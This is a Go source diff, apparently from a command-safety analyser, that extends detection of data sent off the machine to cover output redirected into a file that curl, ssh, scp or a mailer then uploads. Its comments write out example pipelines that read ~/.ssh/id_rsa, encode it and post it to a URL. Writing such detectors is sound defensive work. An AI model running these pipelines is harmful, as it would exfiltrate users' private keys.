@@ -1506,7 +1506,9 @@ var yqFileExts = set{"conf", "csv", "env", "ini", "json", "properties", "toml", 
 
 // outputSent reports whether what c prints reaches, through pipes, a
 // command that sends its standard input to another machine (sendsInput):
-// tool -keystore ~/.ssh/id_rsa | base64 | curl -d @- URL.
+// tool -keystore ~/.ssh/id_rsa | base64 | curl -d @- URL; or goes into a
+// file that a network client of the input names (tool -keystore K >
+// out.bin; curl -T out.bin URL).
 func outputSent(ctx *Context, c *Command) bool {
 	if ctx == nil || ctx.Input == nil {
 		return false
@@ -1516,7 +1518,40 @@ func outputSent(ctx *Context, c *Command) bool {
 			return true
 		}
 	}
+	for _, r := range c.Redirs {
+		if !fsWriteOps.has(r.Op) || !r.Target.Literal || r.Target.Value == "/dev/null" {
+			continue
+		}
+		base := path.Base(r.Target.Value)
+		names := func(w Word) bool {
+			v := w.Value
+			if i := strings.LastIndexAny(v, "@<="); i >= 0 {
+				v = v[i+1:] // -d @F, -F f=<F, --upload-file=F
+			}
+			return v == base || strings.HasSuffix(v, "/"+base)
+		}
+		for _, o := range ctx.Input.Commands {
+			if o != c && netClient(o) && (slices.ContainsFunc(o.Args, names) || slices.ContainsFunc(o.Redirs, func(x Redir) bool { return x.Op == "<" && names(x.Target) })) {
+				return true
+			}
+		}
+	}
 	return false
+}
+
+// netClient reports whether o talks to another machine with the files it
+// names: an HTTP client, a raw connection, a remote shell or copy, a
+// store's client, a mailer.
+func netClient(o *Command) bool {
+	name := lowerNameNoExe(o)
+	return name != "" && (o.in(nsUrlFetchers, name) || o.in(nsNetTools, name) || storageSenders.has(name) || mailers.has(name) || name == "ssh" || name == "scp" || requestSpecOf(o))
+}
+
+// requestSpecOf reports whether o is a client the request specs describe
+// (curl, httpie, Invoke-RestMethod).
+func requestSpecOf(o *Command) bool {
+	s, _ := requestSpec(o)
+	return s != nil
 }
 
 // sendsInput reports whether o sends what it reads on standard input to
